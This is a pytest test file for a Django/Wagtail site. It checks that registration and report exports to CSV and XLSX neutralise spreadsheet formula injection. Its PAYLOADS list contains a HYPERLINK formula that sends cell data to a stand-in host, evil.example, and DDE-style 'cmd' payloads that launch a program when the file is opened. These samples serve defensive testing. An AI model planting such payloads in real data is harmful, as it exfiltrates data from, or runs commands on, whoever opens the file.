"""No CSV the hub writes carries a live formula (hub.spreadsheets): the registrations export, the
missing translations report and Wagtail's own reports, read back as text."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from hub.spreadsheets import FORMULA_TRIGGERS, neutralise

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8")
    return text, list(csv.reader(io.StringIO(text)))


def _assert_no_live_cell(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or neutralise(cell) == cell, cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12", "-12"),  # a plain number cannot run
        ("-3.5", "-3.5"),
        ("Ada = Lovelace", "Ada = Lovelace"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written


@pytest.fixture
def hostile_registrations(home):
    from tests.workshops.factories import RegistrationDataFactory, make_index, make_workshop
    from workshops import services

    workshop = make_workshop(make_index(home), slug="csv-workshop", capacity=50)
    for number, payload in enumerate(PAYLOADS):
        data = RegistrationDataFactory(
            name=payload, organisation=payload, country=payload, needs=payload
        )
        data["email"] = f"p{number}@example.org"
        services.register(workshop, data, send_email=False)
    return workshop


def test_registrations_csv_has_no_live_formula(admin_client, hostile_registrations):
    workshop = hostile_registrations
    url = reverse("workshop_registrations:index") + f"?workshop={workshop.pk}&export=csv"
    text, rows = _csv_rows(admin_client.get(url))
    _assert_no_live_cell(rows)
    assert len(rows) == 1 + len(PAYLOADS)
    names = [row[1] for row in rows[1:]]
    assert "'" + PAYLOADS[0] in names
    # In the text itself: the quote is there, and no cell opens with the formula.
    assert '"\'=HYPERLINK(""http://evil.example/' in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    # What the cell holds is otherwise kept, word for word.
    assert {name[1:] for name in names} == set(PAYLOADS)


def test_registrations_xlsx_holds_text_not_formulas(admin_client, hostile_registrations):
    workshop = hostile_registrations
    url = reverse("workshop_registrations:index") + f"?workshop={workshop.pk}&export=xlsx"
    response = admin_client.get(url)
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert PAYLOADS[0] in [cell.value for cell in cells]


def test_reports_csv_have_no_live_formula(admin_client, home):
    from hub.models import StandardPage

    page = StandardPage(
        title="=HYPERLINK(1)", title_en="=HYPERLINK(1)", slug="formula", slug_en="formula"
    )
    home.add_child(instance=page)
    page.save_revision().publish()
    for url in (reverse("hub_missing_translations"), reverse("wagtailadmin_reports:site_history")):
        _text, rows = _csv_rows(admin_client.get(url + "?export=csv"))
        _assert_no_live_cell(rows)
        assert any("'=HYPERLINK(1)" in row for row in rows), url
